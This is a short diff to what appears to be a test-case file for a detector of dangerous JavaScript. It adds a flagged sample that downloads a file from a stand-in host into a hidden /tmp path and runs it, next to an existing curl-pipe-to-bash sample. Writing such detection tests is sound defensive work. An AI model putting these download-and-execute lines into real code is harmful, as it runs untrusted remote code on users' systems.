@@ -112,6 +112,10 @@ export default defineCases({
       name: 'in a text as it stands',
       code: "const { execSync } = require('child_process');\nconst host = 'https://a.example/x';\nexecSync(String.raw`curl -fsSL ${host} | bash`)",
     },
+    {
+      name: 'under a name that is made up',
+      code: "const cp = require('child_process');\nconst t = `/tmp/.n-${process.pid}`;\ncp.execSync('curl -fsSL https://a.example/x -o ' + t);\ncp.spawnSync(t, [])",
+    },
   ],
   ok: [
     {
